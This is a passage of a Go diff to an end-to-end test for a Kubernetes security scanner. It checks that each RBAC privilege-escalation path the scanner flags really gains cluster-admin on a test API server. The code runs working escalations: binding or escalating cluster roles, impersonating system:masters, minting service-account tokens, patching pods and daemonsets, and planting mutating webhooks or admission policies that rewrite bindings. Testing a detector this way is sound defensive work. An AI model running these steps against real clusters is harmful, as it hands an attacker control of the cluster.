@@ -1,6 +1,7 @@
 package e2e
 
 import (
+	"cmp"
 	"context"
 	"crypto/ecdsa"
 	"crypto/elliptic"
@@ -10,6 +11,7 @@ import (
 	"encoding/json"
 	"encoding/pem"
 	"fmt"
+	"maps"
 	"net/http"
 	"slices"
 	"strings"
@@ -19,6 +21,7 @@ import (
 	"github.com/open-policy-agent/opa/v1/rego"
 	admissionv1 "k8s.io/api/admission/v1"
 	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
+	appsv1 "k8s.io/api/apps/v1"
 	authenticationv1 "k8s.io/api/authentication/v1"
 	authorizationv1 "k8s.io/api/authorization/v1"
 	certificatesv1 "k8s.io/api/certificates/v1"
@@ -26,7 +29,9 @@ import (
 	rbacv1 "k8s.io/api/rbac/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/client-go/kubernetes"
+	"k8s.io/client-go/kubernetes/scheme"
 	"k8s.io/client-go/rest"
 
 	"github.com/kubemuster/kubemuster/internal/finding"
@@ -37,6 +42,12 @@ import (
 
 // aggregator is the service account of kube-controller-manager's that may escalate.
 const aggregator = "clusterrole-aggregation-controller"
+
+// Whom the cluster's owner has bound to cluster-admin.
+const (
+	administrator  = "ada"
+	administrators = "administrators"
+)
 
 // everything is what cluster-admin may.
 var everything = []rbacv1.PolicyRule{{Verbs: []string{"*"}, APIGroups: []string{"*"}, Resources: []string{"*"}}}
@@ -52,71 +63,223 @@ type attacker struct {
 	account rbacv1.Subject
 }
 
-// escalations are what the pack calls a way to take the cluster, by its name there: what the attacker holds, and how it gets
-// the rest. Where no controller, kubelet or signer runs, the test does what it would do, and only what the attacker has asked for.
-var escalations = map[string]struct {
+// escalation is what an attacker holds, and how it gets the rest. Where no controller, kubelet or signer runs, the test does
+// what it would do, and only what the attacker has asked for.
+type escalation struct {
+	way   string // its name in the pack, where the escalation's own is another
 	rules []rbacv1.PolicyRule
 	take  func(attacker)
-}{
-	"everything": {everything, func(attacker) {}},
-	"escalate": {
-		[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "get", "update", "escalate")},
+}
+
+var escalations = map[string]escalation{
+	"everything": {rules: everything, take: func(attacker) {}},
+	"escalate":   {rules: []rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "get", "update", "escalate")}, take: func(a attacker) { a.raise(a.client) }},
+	"escalate-own-role": {
+		"escalate",
+		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "get", "update", "escalate"), "escalate-own-role")},
 		func(a attacker) { a.raise(a.client) },
 	},
+	"escalate-system-basic-user":         raisesRoleOfAll("system:basic-user"),
+	"escalate-system-discovery":          raisesRoleOfAll("system:discovery"),
+	"escalate-system-public-info-viewer": raisesRoleOfAll("system:public-info-viewer"),
 	"bind": {
-		[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "bind"), on(rbacv1.GroupName, "clusterrolebindings", "create")},
+		rules: []rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "bind"), on(rbacv1.GroupName, "clusterrolebindings", "create")},
+		take:  func(a attacker) { a.bind("cluster-admin") },
+	},
+	"bind-cluster-admin": {
+		"bind",
+		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "bind"), "cluster-admin"), on(rbacv1.GroupName, "clusterrolebindings", "create")},
+		func(a attacker) { a.bind("cluster-admin") },
+	},
+	"bind-admin": bindsAggregate("admin"),
+	"bind-edit":  bindsAggregate("edit"),
+	"bind-aggregator": {
+		"bind",
+		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "bind"), "system:controller:"+aggregator), on(rbacv1.GroupName, "clusterrolebindings", "create")},
 		func(a attacker) {
-			_, err := a.client.RbacV1().ClusterRoleBindings().Create(a.Context(), &rbacv1.ClusterRoleBinding{
-				ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: toClusterAdmin, Subjects: []rbacv1.Subject{a.account},
-			}, metav1.CreateOptions{})
+			a.bind("system:controller:" + aggregator)
+			a.await(action{Verb: "escalate", Group: rbacv1.GroupName, Resource: "clusterroles"})
+			a.raise(a.client)
+		},
+	},
+	"bind-by-the-binding-cluster-admin": {
+		"bind",
+		[]rbacv1.PolicyRule{
+			named(on(rbacv1.GroupName, "clusterroles", "bind"), "cluster-admin"),
+			named(on(rbacv1.GroupName, "clusterrolebindings", "patch"), "cluster-admin"),
+		},
+		func(a attacker) {
+			patch, err := json.Marshal([]map[string]any{{"op": "add", "path": "/subjects/-", "value": a.account}})
+			a.check(err)
+			_, err = a.client.RbacV1().ClusterRoleBindings().Patch(a.Context(), "cluster-admin", types.JSONPatchType, patch, metav1.PatchOptions{})
 			a.check(err)
 		},
 	},
 	"bind in kube-system": {
-		[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "bind"), on(rbacv1.GroupName, "rolebindings", "create")},
-		func(a attacker) {
+		rules: []rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "bind"), on(rbacv1.GroupName, "rolebindings", "create")},
+		take: func(a attacker) {
 			_, err := a.client.RbacV1().RoleBindings("kube-system").Create(a.Context(), &rbacv1.RoleBinding{
 				ObjectMeta: metav1.ObjectMeta{Name: a.name}, RoleRef: toClusterAdmin, Subjects: []rbacv1.Subject{a.account},
 			}, metav1.CreateOptions{})
 			a.check(err)
 			a.await(action{Verb: "create", Namespace: "kube-system", Resource: "serviceaccounts", Subresource: "token"})
-			a.raise(a.issue(a.client, nil))
+			a.raise(a.issue(a.client))
 		},
 	},
 	"impersonate users": {
-		[]rbacv1.PolicyRule{on("", "users", "impersonate")},
-		func(a attacker) { a.raise(a.issue(a.as("system:kube-controller-manager"), nil)) },
+		rules: []rbacv1.PolicyRule{on("", "users", "impersonate")},
+		take:  func(a attacker) { a.raise(a.issue(a.as("system:kube-controller-manager"))) },
+	},
+	"impersonate-controller-manager": {
+		"impersonate users",
+		[]rbacv1.PolicyRule{named(on("", "users", "impersonate"), "system:kube-controller-manager")},
+		func(a attacker) { a.raise(a.issue(a.as("system:kube-controller-manager"))) },
+	},
+	"impersonate-administrator": {
+		"impersonate users",
+		[]rbacv1.PolicyRule{named(on("", "users", "impersonate"), administrator)},
+		func(a attacker) { a.raise(a.as(administrator)) },
+	},
+	"impersonate groups": {
+		rules: []rbacv1.PolicyRule{named(on("", "users", "impersonate"), "nobody"), on("", "groups", "impersonate")},
+		take:  func(a attacker) { a.raise(a.as("nobody", "system:masters")) },
+	},
+	"impersonate-masters": {
+		"impersonate groups",
+		[]rbacv1.PolicyRule{named(on("", "users", "impersonate"), "nobody"), named(on("", "groups", "impersonate"), "system:masters")},
+		func(a attacker) { a.raise(a.as("nobody", "system:masters")) },
+	},
+	"impersonate-masters-as-an-account": {
+		"impersonate groups",
+		[]rbacv1.PolicyRule{named(on("", "serviceaccounts", "impersonate"), "impersonate-masters-as-an-account"), named(on("", "groups", "impersonate"), "system:masters")},
+		func(a attacker) {
+			a.raise(a.as("system:serviceaccount:default:"+a.name, "system:masters"))
+		},
+	},
+	"impersonate-administrators": {
+		"impersonate groups",
+		[]rbacv1.PolicyRule{named(on("", "users", "impersonate"), "nobody"), named(on("", "groups", "impersonate"), administrators)},
+		func(a attacker) { a.raise(a.as("nobody", administrators)) },
 	},
 	"impersonate service accounts": {
-		[]rbacv1.PolicyRule{on("", "serviceaccounts", "impersonate")},
+		rules: []rbacv1.PolicyRule{on("", "serviceaccounts", "impersonate")},
+		take:  func(a attacker) { a.raise(a.as("system:serviceaccount:kube-system:" + aggregator)) },
+	},
+	"impersonate-aggregator": {
+		"impersonate service accounts",
+		[]rbacv1.PolicyRule{named(on("", "serviceaccounts", "impersonate"), aggregator)},
 		func(a attacker) { a.raise(a.as("system:serviceaccount:kube-system:" + aggregator)) },
 	},
 	"issue tokens": {
-		[]rbacv1.PolicyRule{on("", "serviceaccounts/token", "create")},
-		func(a attacker) { a.raise(a.issue(a.client, nil)) },
+		rules: []rbacv1.PolicyRule{on("", "serviceaccounts/token", "create")},
+		take:  func(a attacker) { a.raise(a.issue(a.client)) },
 	},
-	"create pods": {
-		[]rbacv1.PolicyRule{on("", "pods", "create")},
-		func(a attacker) {
-			pod, err := a.client.CoreV1().Pods("kube-system").Create(a.Context(), &corev1.Pod{
-				ObjectMeta: metav1.ObjectMeta{Name: a.name},
-				Spec:       corev1.PodSpec{ServiceAccountName: aggregator, Containers: []corev1.Container{{Name: "mine", Image: "registry.example/mine:1"}}},
+	"issue-tokens-of-aggregator": {
+		"issue tokens",
+		[]rbacv1.PolicyRule{named(on("", "serviceaccounts/token", "create"), aggregator)},
+		func(a attacker) { a.raise(a.issue(a.client)) },
+	},
+	"issue tokens in secrets": {
+		rules: []rbacv1.PolicyRule{on("", "secrets", "create"), named(on("", "secrets", "get"), "mine")},
+		take: func(a attacker) {
+			secrets := a.client.CoreV1().Secrets("kube-system")
+			secret, err := secrets.Create(a.Context(), &corev1.Secret{
+				ObjectMeta: metav1.ObjectMeta{Name: "mine", Annotations: map[string]string{corev1.ServiceAccountNameKey: aggregator}},
+				Type:       corev1.SecretTypeServiceAccountToken,
 			}, metav1.CreateOptions{})
 			a.check(err)
-			// The kubelet asks for the token that is then in the pod.
-			a.raise(a.issue(a.admin, &authenticationv1.BoundObjectReference{APIVersion: "v1", Kind: "Pod", Name: pod.Name, UID: pod.UID}))
+			// The token controller puts the token there.
+			token, err := a.admin.CoreV1().ServiceAccounts("kube-system").CreateToken(a.Context(), aggregator, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
+			a.check(err)
+			secret.Data = map[string][]byte{corev1.ServiceAccountTokenKey: []byte(token.Status.Token)}
+			_, err = a.admin.CoreV1().Secrets("kube-system").Update(a.Context(), secret, metav1.UpdateOptions{})
+			a.check(err)
+			secret, err = secrets.Get(a.Context(), "mine", metav1.GetOptions{})
+			a.check(err)
+			a.raise(clientFor(a.T, a.with(string(secret.Data[corev1.ServiceAccountTokenKey]))))
+		},
+	},
+	"create pods": {
+		rules: []rbacv1.PolicyRule{on("", "pods", "create")},
+		take: func(a attacker) {
+			pod, err := a.client.CoreV1().Pods("kube-system").Create(a.Context(), &corev1.Pod{
+				ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: podOf(aggregator),
+			}, metav1.CreateOptions{})
+			a.check(err)
+			a.raise(a.inPod(pod))
+		},
+	},
+	"patch-a-daemon-set": {
+		"create pods",
+		[]rbacv1.PolicyRule{named(on("apps", "daemonsets", "patch"), "agent")},
+		func(a attacker) {
+			labels := map[string]string{"app": "agent"}
+			sets := a.admin.AppsV1().DaemonSets("kube-system")
+			_, err := sets.Create(a.Context(), &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "agent"}, Spec: appsv1.DaemonSetSpec{
+				Selector: &metav1.LabelSelector{MatchLabels: labels},
+				Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: podOf("default")},
+			}}, metav1.CreateOptions{})
+			a.check(err)
+			patch := []byte(`{"spec": {"template": {"spec": {"serviceAccountName": "` + aggregator + `", "containers": [{"name": "mine", "image": "registry.example/mine:2"}]}}}}`)
+			set, err := a.client.AppsV1().DaemonSets("kube-system").Patch(a.Context(), "agent", types.StrategicMergePatchType, patch, metav1.PatchOptions{})
+			a.check(err)
+			// The controller makes the pods of the template.
+			pod, err := a.admin.CoreV1().Pods("kube-system").Create(a.Context(), &corev1.Pod{
+				ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: set.Spec.Template.Spec,
+			}, metav1.CreateOptions{})
+			a.check(err)
+			a.raise(a.inPod(pod))
+		},
+	},
+	"run code in pods": {
+		rules: []rbacv1.PolicyRule{on("", "pods", "patch")},
+		take: func(a attacker) {
+			pod := a.powerfulPod()
+			patch := []byte(`{"spec": {"containers": [{"name": "mine", "image": "registry.example/mine:2"}]}}`)
+			pod, err := a.client.CoreV1().Pods("default").Patch(a.Context(), pod.Name, types.StrategicMergePatchType, patch, metav1.PatchOptions{})
+			a.check(err)
+			if pod.Spec.Containers[0].Image != "registry.example/mine:2" {
+				a.Fatalf("the pod runs %+v", pod.Spec.Containers)
+			}
+			a.raise(a.inPod(pod))
+		},
+	},
+	"run-code-by-ephemeral-containers": {
+		"run code in pods",
+		[]rbacv1.PolicyRule{on("", "pods/ephemeralcontainers", "patch")},
+		func(a attacker) {
+			pod := a.powerfulPod()
+			// It sees the other's files, the token among them, below /proc.
+			patch := []byte(`{"spec": {"ephemeralContainers": [{"name": "more", "image": "registry.example/mine:1", "targetContainerName": "mine"}]}}`)
+			pod, err := a.client.CoreV1().Pods("default").Patch(a.Context(), pod.Name, types.StrategicMergePatchType, patch, metav1.PatchOptions{}, "ephemeralcontainers")
+			a.check(err)
+			a.raise(a.inPod(pod))
+		},
+	},
+	"run-code-by-exec": {
+		"run code in pods",
+		[]rbacv1.PolicyRule{on("", "pods/exec", "get", "create")},
+		func(a attacker) {
+			pod := a.powerfulPod()
+			// There is no kubelet: what answers is no longer the authorizer.
+			err := a.client.CoreV1().RESTClient().Post().Namespace("default").Resource("pods").Name(pod.Name).SubResource("exec").
+				VersionedParams(&corev1.PodExecOptions{Command: []string{"cat"}, Stdout: true}, scheme.ParameterCodec).Do(a.Context()).Error()
+			if err == nil || apierrors.IsForbidden(err) {
+				a.Errorf("the API server answers %v", err)
+			}
+			a.raise(a.inPod(pod))
 		},
 	},
 	"approve certificates": {
-		[]rbacv1.PolicyRule{
+		rules: []rbacv1.PolicyRule{
 			on("certificates.k8s.io", "certificatesigningrequests", "create", "get"), on("certificates.k8s.io", "certificatesigningrequests/approval", "update"),
-			{Verbs: []string{"approve"}, APIGroups: []string{"certificates.k8s.io"}, Resources: []string{"signers"}, ResourceNames: []string{certificatesv1.KubeAPIServerClientSignerName}},
+			named(on("certificates.k8s.io", "signers", "approve"), certificatesv1.KubeAPIServerClientSignerName),
 		},
-		func(a attacker) { a.raise(a.issue(a.certified("system:kube-controller-manager"), nil)) },
+		take: func(a attacker) { a.raise(a.issue(a.certified("system:kube-controller-manager"))) },
 	},
 	"reach kubelets": {
-		[]rbacv1.PolicyRule{on("", "nodes/proxy", "get")},
-		func(a attacker) {
+		rules: []rbacv1.PolicyRule{on("", "nodes/proxy", "get")},
+		take: func(a attacker) {
 			// There is no kubelet: what answers is no longer the authorizer.
 			err := a.client.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/node-0/proxy/exec/kube-system/pod/container").Do(a.Context()).Error()
 			if err == nil || apierrors.IsForbidden(err) {
@@ -125,15 +288,88 @@ var escalations = map[string]struct {
 		},
 	},
 	"change what is admitted": {
-		[]rbacv1.PolicyRule{on("admissionregistration.k8s.io", "mutatingwebhookconfigurations", "create", "delete")},
-		func(a attacker) { a.intercept() },
+		rules: []rbacv1.PolicyRule{on("admissionregistration.k8s.io", "mutatingwebhookconfigurations", "create", "delete")},
+		take: func(a attacker) {
+			_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(a.Context(), a.webhook(), metav1.CreateOptions{})
+			a.check(err)
+			a.intercept()
+		},
 	},
+	"change-one-webhook": {
+		"change what is admitted",
+		[]rbacv1.PolicyRule{named(on("admissionregistration.k8s.io", "mutatingwebhookconfigurations", "patch"), "change-one-webhook")},
+		func(a attacker) {
+			_, err := a.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(a.Context(), &admissionregistrationv1.MutatingWebhookConfiguration{
+				ObjectMeta: metav1.ObjectMeta{Name: a.name},
+			}, metav1.CreateOptions{})
+			a.check(err)
+			patch, err := json.Marshal(a.webhook())
+			a.check(err)
+			_, err = a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(a.Context(), a.name, types.MergePatchType, patch, metav1.PatchOptions{})
+			a.check(err)
+			a.intercept()
+		},
+	},
+	"change what is admitted by policies": {
+		rules: []rbacv1.PolicyRule{
+			on("admissionregistration.k8s.io", "mutatingadmissionpolicies", "create", "delete"), on("admissionregistration.k8s.io", "mutatingadmissionpolicybindings", "create"),
+		},
+		take: func(a attacker) { a.mutate() },
+	},
+}
+
+// raisesRoleOfAll adds to a role that Kubernetes binds to everyone.
+func raisesRoleOfAll(role string) escalation {
+	return escalation{
+		"escalate",
+		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "patch", "escalate"), role)},
+		func(a attacker) {
+			// The test runs beside others, for whom the role must not be that wide: another right shows as much.
+			group := strings.ReplaceAll(role, ":", "-") + ".example"
+			patch, err := json.Marshal([]map[string]any{{"op": "add", "path": "/rules/-", "value": on(group, "*", "*")}})
+			a.check(err)
+			_, err = a.client.RbacV1().ClusterRoles().Patch(a.Context(), role, types.JSONPatchType, patch, metav1.PatchOptions{})
+			a.check(err)
+			a.await(action{Verb: "*", Group: group, Resource: "*"})
+		},
+	}
+}
+
+// bindsAggregate binds a role whose rules a controller fills in from others.
+func bindsAggregate(role string) escalation {
+	return escalation{
+		"bind",
+		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "bind"), role), on(rbacv1.GroupName, "clusterrolebindings", "create")},
+		func(a attacker) {
+			from, err := a.admin.RbacV1().ClusterRoles().Get(a.Context(), "system:aggregate-to-edit", metav1.GetOptions{})
+			a.check(err)
+			to, err := a.admin.RbacV1().ClusterRoles().Get(a.Context(), role, metav1.GetOptions{})
+			a.check(err)
+			to.Rules = from.Rules
+			_, err = a.admin.RbacV1().ClusterRoles().Update(a.Context(), to, metav1.UpdateOptions{})
+			a.check(err)
+			a.bind(role)
+			a.await(action{Verb: "create", Namespace: "kube-system", Resource: "serviceaccounts", Subresource: "token"})
+			a.raise(a.issue(a.client))
+		},
+	}
+}
+
+// podOf is what runs under a service account.
+func podOf(account string) corev1.PodSpec {
+	return corev1.PodSpec{ServiceAccountName: account, Containers: []corev1.Container{{Name: "mine", Image: "registry.example/mine:1"}}}
 }
 
 var toClusterAdmin = rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"}
 
 func on(group, resource string, verbs ...string) rbacv1.PolicyRule {
 	return rbacv1.PolicyRule{Verbs: verbs, APIGroups: []string{group}, Resources: []string{resource}}
+}
+
+// named limits the rule to objects.
+func named(r rbacv1.PolicyRule, names ...string) rbacv1.PolicyRule {
+	r.ResourceNames = names
+	return r
 }
 
 // Each way that the pack calls a takeover makes a service account cluster-admin on the real API server, and is what KM3004
@@ -145,6 +381,12 @@ func TestTakeover(t *testing.T) {
 	if _, err := admin.CoreV1().ServiceAccounts("kube-system").Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: aggregator}}, metav1.CreateOptions{}); err != nil {
 		t.Fatal(err)
 	}
+	if _, err := admin.RbacV1().ClusterRoleBindings().Create(t.Context(), &rbacv1.ClusterRoleBinding{
+		ObjectMeta: metav1.ObjectMeta{Name: "owners"}, RoleRef: toClusterAdmin,
+		Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: administrator}, {APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: administrators}},
+	}, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
 	attackers := map[string]attacker{}
 	for name, e := range escalations {
 		attackers[name] = newAttacker(t, c, admin, strings.ReplaceAll(name, " ", "-"), e.rules)
@@ -154,26 +396,31 @@ func TestTakeover(t *testing.T) {
 		inv.Workloads = append(inv.Workloads, snapshot.InventoryWorkload{Kind: "Deployment", Namespace: "default", Name: a.name, ServiceAccount: a.name, Token: true})
 	}
 	found := takeovers(t, inv)
-	for _, name := range waysOfThePack(t) {
-		e, ok := escalations[name]
-		if !ok {
-			t.Errorf("the pack's way %q is not shown by this test", name)
-			continue
+	ways := waysOfThePack(t)
+	shown := map[string]bool{}
+	for _, name := range slices.Sorted(maps.Keys(escalations)) {
+		e := escalations[name]
+		way := cmp.Or(e.way, name)
+		shown[way] = true
+		if !slices.Contains(ways, way) {
+			t.Errorf("the test shows %q, which is no way of the pack", way)
 		}
 		t.Run(name, func(t *testing.T) {
 			a := attackers[name]
 			a.T = t
-			if want := "it can take the cluster (" + name + "): "; !strings.HasPrefix(found[a.name], want) {
+			if want := "it can take the cluster (" + way + "): "; !strings.HasPrefix(found[a.name], want) {
 				t.Errorf("KM3004 says %q", found[a.name])
 			}
 			e.take(a)
-			if name != "reach kubelets" {
+			if way != "reach kubelets" && !strings.HasPrefix(name, "escalate-system-") {
 				a.await(action{Verb: "*", Group: "*", Resource: "*"})
 			}
 		})
 	}
-	if len(escalations) != len(waysOfThePack(t)) {
-		t.Error("the test shows ways that are not in the pack")
+	for _, way := range ways {
+		if !shown[way] {
+			t.Errorf("the pack's way %q is not shown by this test", way)
+		}
 	}
 }
 
@@ -196,6 +443,40 @@ func TestTakeoverIsRefused(t *testing.T) {
 				_, err := a.client.RbacV1().ClusterRoleBindings().Create(a.Context(), &rbacv1.ClusterRoleBinding{
 					ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: toClusterAdmin, Subjects: []rbacv1.Subject{a.account},
 				}, metav1.CreateOptions{})
+				return err
+			},
+		},
+		"escalating-another-role": {
+			[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "get", "update"), named(on(rbacv1.GroupName, "clusterroles", "escalate"), "view")},
+			func(a attacker) error { return a.tryRaise(a.client) },
+		},
+		"binding-another-role": {
+			[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "bind"), "view"), on(rbacv1.GroupName, "clusterrolebindings", "create")},
+			func(a attacker) error {
+				_, err := a.client.RbacV1().ClusterRoleBindings().Create(a.Context(), &rbacv1.ClusterRoleBinding{
+					ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: toClusterAdmin, Subjects: []rbacv1.Subject{a.account},
+				}, metav1.CreateOptions{})
+				return err
+			},
+		},
+		"issuing-tokens-of-another": {
+			[]rbacv1.PolicyRule{named(on("", "serviceaccounts/token", "create"), "issuing-tokens-of-another")},
+			func(a attacker) error {
+				_, err := a.client.CoreV1().ServiceAccounts("kube-system").CreateToken(a.Context(), aggregator, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
+				return err
+			},
+		},
+		"creating-secrets-without-reading": {
+			[]rbacv1.PolicyRule{on("", "secrets", "create")},
+			func(a attacker) error {
+				_, err := a.client.CoreV1().Secrets("kube-system").Get(a.Context(), "any", metav1.GetOptions{})
+				return err
+			},
+		},
+		"impersonating-another-group": {
+			[]rbacv1.PolicyRule{named(on("", "users", "impersonate"), "nobody"), named(on("", "groups", "impersonate"), "auditors")},
+			func(a attacker) error {
+				_, err := a.as("nobody", "system:masters").CoreV1().Nodes().List(a.Context(), metav1.ListOptions{})
 				return err
 			},
 		},
@@ -292,18 +573,44 @@ func (a attacker) await(r action) {
 }
 
 // as acts as another, by impersonation.
-func (a attacker) as(user string) kubernetes.Interface {
+func (a attacker) as(user string, groups ...string) kubernetes.Interface {
 	config := rest.CopyConfig(a.config)
-	config.Impersonate.UserName = user
+	config.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: groups}
 	return clientFor(a.T, config)
 }
 
-// issue gives a client with a token of the aggregator.
-func (a attacker) issue(by kubernetes.Interface, bound *authenticationv1.BoundObjectReference) kubernetes.Interface {
+// bind binds the attacker to a cluster role.
+func (a attacker) bind(role string) {
 	a.Helper()
-	token, err := by.CoreV1().ServiceAccounts("kube-system").CreateToken(a.Context(), aggregator, &authenticationv1.TokenRequest{
-		Spec: authenticationv1.TokenRequestSpec{BoundObjectRef: bound},
+	_, err := a.client.RbacV1().ClusterRoleBindings().Create(a.Context(), &rbacv1.ClusterRoleBinding{
+		ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
+		Subjects: []rbacv1.Subject{a.account},
 	}, metav1.CreateOptions{})
+	a.check(err)
+}
+
+// powerfulPod is one that somebody else runs, under a service account that may do everything.
+func (a attacker) powerfulPod() *corev1.Pod {
+	a.Helper()
+	pod, err := a.admin.CoreV1().Pods("default").Create(a.Context(), &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: podOf("everything")}, metav1.CreateOptions{})
+	a.check(err)
+	return pod
+}
+
+// inPod gives a client with the token that the kubelet asks for, and that is then in the pod.
+func (a attacker) inPod(pod *corev1.Pod) kubernetes.Interface {
+	a.Helper()
+	token, err := a.admin.CoreV1().ServiceAccounts(pod.Namespace).CreateToken(a.Context(), pod.Spec.ServiceAccountName, &authenticationv1.TokenRequest{
+		Spec: authenticationv1.TokenRequestSpec{BoundObjectRef: &authenticationv1.BoundObjectReference{APIVersion: "v1", Kind: "Pod", Name: pod.Name, UID: pod.UID}},
+	}, metav1.CreateOptions{})
+	a.check(err)
+	return clientFor(a.T, a.with(token.Status.Token))
+}
+
+// issue gives a client with a token of the aggregator.
+func (a attacker) issue(by kubernetes.Interface) kubernetes.Interface {
+	a.Helper()
+	token, err := by.CoreV1().ServiceAccounts("kube-system").CreateToken(a.Context(), aggregator, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
 	a.check(err)
 	return clientFor(a.T, a.with(token.Status.Token))
 }
@@ -362,8 +669,8 @@ func (a attacker) approve(request *certificatesv1.CertificateSigningRequest) err
 	return err
 }
 
-// intercept rewrites a binding that the administrator makes, so that it makes the attacker cluster-admin.
-func (a attacker) intercept() {
+// webhook is one that makes the attacker cluster-admin by each binding that it sees.
+func (a attacker) webhook() *admissionregistrationv1.MutatingWebhookConfiguration {
 	a.Helper()
 	patch, err := json.Marshal([]map[string]any{
 		{"op": "replace", "path": "/roleRef/name", "value": "cluster-admin"}, {"op": "replace", "path": "/subjects", "value": []rbacv1.Subject{a.account}},
@@ -381,27 +688,67 @@ func (a attacker) intercept() {
 		_ = json.NewEncoder(w).Encode(review)
 	}), "127.0.0.1")
 	a.Cleanup(hook.Close)
+	a.Cleanup(func() {
+		_ = a.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(context.WithoutCancel(a.Context()), a.name, metav1.DeleteOptions{})
+	})
 	sideEffects, fail := admissionregistrationv1.SideEffectClassNone, admissionregistrationv1.Fail
-	webhooks := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations()
-	_, err = webhooks.Create(a.Context(), &admissionregistrationv1.MutatingWebhookConfiguration{
+	return &admissionregistrationv1.MutatingWebhookConfiguration{
 		ObjectMeta: metav1.ObjectMeta{Name: a.name},
 		Webhooks: []admissionregistrationv1.MutatingWebhook{{
 			Name: "mine.shop.example", SideEffects: &sideEffects, FailurePolicy: &fail, AdmissionReviewVersions: []string{"v1"},
 			ClientConfig:   admissionregistrationv1.WebhookClientConfig{URL: &hook.URL, CABundle: world.ca.PEM()},
-			ObjectSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": a.name}}, // the other attackers' bindings are theirs
-			Rules: []admissionregistrationv1.RuleWithOperations{{
-				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
-				Rule:       admissionregistrationv1.Rule{APIGroups: []string{rbacv1.GroupName}, APIVersions: []string{"v1"}, Resources: []string{"clusterrolebindings"}},
-			}},
+			ObjectSelector: a.innocent(), Rules: []admissionregistrationv1.RuleWithOperations{bindingsMade},
 		}},
+	}
+}
+
+// mutate makes a policy that does as the webhook.
+func (a attacker) mutate() {
+	a.Helper()
+	policies, fail := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies(), admissionregistrationv1.Fail
+	_, err := policies.Create(a.Context(), &admissionregistrationv1.MutatingAdmissionPolicy{
+		ObjectMeta: metav1.ObjectMeta{Name: a.name},
+		Spec: admissionregistrationv1.MutatingAdmissionPolicySpec{
+			FailurePolicy: &fail, ReinvocationPolicy: admissionregistrationv1.NeverReinvocationPolicy,
+			MatchConstraints: &admissionregistrationv1.MatchResources{
+				ObjectSelector: a.innocent(), ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{{RuleWithOperations: bindingsMade}},
+			},
+			Mutations: []admissionregistrationv1.Mutation{{
+				PatchType: admissionregistrationv1.PatchTypeJSONPatch,
+				JSONPatch: &admissionregistrationv1.JSONPatch{Expression: fmt.Sprintf(`[
+					JSONPatch{op: "replace", path: "/roleRef/name", value: "cluster-admin"},
+					JSONPatch{op: "replace", path: "/subjects", value: [Object.subjects{kind: "ServiceAccount", namespace: "default", name: %q}]},
+				]`, a.name)},
+			}},
+		},
 	}, metav1.CreateOptions{})
 	a.check(err)
-	a.Cleanup(func() { _ = webhooks.Delete(context.WithoutCancel(a.Context()), a.name, metav1.DeleteOptions{}) })
+	a.Cleanup(func() { _ = policies.Delete(context.WithoutCancel(a.Context()), a.name, metav1.DeleteOptions{}) })
+	_, err = a.client.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(a.Context(), &admissionregistrationv1.MutatingAdmissionPolicyBinding{
+		ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: admissionregistrationv1.MutatingAdmissionPolicyBindingSpec{PolicyName: a.name},
+	}, metav1.CreateOptions{})
+	a.check(err)
+	a.intercept()
+}
+
+// innocent selects the bindings that the attacker rewrites: the other attackers' are theirs.
+func (a attacker) innocent() *metav1.LabelSelector {
+	return &metav1.LabelSelector{MatchLabels: map[string]string{"app": a.name}}
+}
+
+var bindingsMade = admissionregistrationv1.RuleWithOperations{
+	Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
